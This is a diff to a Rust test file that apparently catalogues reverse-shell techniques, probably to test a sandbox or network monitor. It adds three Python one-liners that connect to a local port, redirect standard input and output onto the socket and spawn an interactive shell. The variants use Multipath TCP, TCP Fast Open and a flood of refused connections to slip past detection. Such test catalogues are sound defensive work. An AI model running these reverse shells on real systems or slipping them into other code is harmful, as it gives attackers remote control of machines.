@@ -116,6 +116,48 @@ while d:=p.stdout.read(4096): s.sendall(d)'"#
     )
 });
 
+/// By Multipath TCP, where the kernel has it.
+const PYTHON_MULTIPATH: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,subprocess,os
+try: s=socket.socket(2,1,262)
+except OSError: s=socket.socket()
+s.connect(("127.0.0.1",{port}))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+subprocess.call(["{sh}","-i"])'"#
+    )
+})
+.by_an_interpreter();
+
+/// With MSG_FASTOPEN: no call connects.
+const PYTHON_FAST_OPEN: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,subprocess,os
+s=socket.socket()
+s.sendto(b"here\n",0x20000000,("127.0.0.1",{port}))
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+subprocess.call(["{sh}","-i"])'"#
+    )
+})
+.by_an_interpreter();
+
+/// After more refused connections than a table of all the machine's would hold.
+const PYTHON_AFTER_A_STORM: Attack = Attack::new(&["python3"], |tools, port| {
+    let (python, sh) = (tools.get("python3"), tools.get("sh"));
+    format!(
+        r#"{python} -c 'import socket,subprocess,os
+s=socket.create_connection(("127.0.0.1",{port}))
+n=socket.socket();n.bind(("127.0.0.1",0));nowhere=n.getsockname()
+for i in range(10000):
+    with socket.socket() as r: r.connect_ex(nowhere)
+[os.dup2(s.fileno(),fd) for fd in (0,1,2)]
+subprocess.call(["{sh}","-i"])'"#
+    )
+})
+.by_an_interpreter();
+
 const PERL: Attack = Attack::new(&["perl"], |tools, port| {
     let (perl, sh) = (tools.get("perl"), tools.get("sh"));
     format!(
@@ -468,6 +510,9 @@ everywhere! {
     python => PYTHON,
     python_terminal => PYTHON_TERMINAL,
     python_pipes => PYTHON_PIPES,
+    python_multipath => PYTHON_MULTIPATH,
+    python_fast_open => PYTHON_FAST_OPEN,
+    python_after_a_storm => PYTHON_AFTER_A_STORM,
     perl => PERL,
     fifo_nc => FIFO_NC,
     fifo_busybox_nc => FIFO_BUSYBOX,
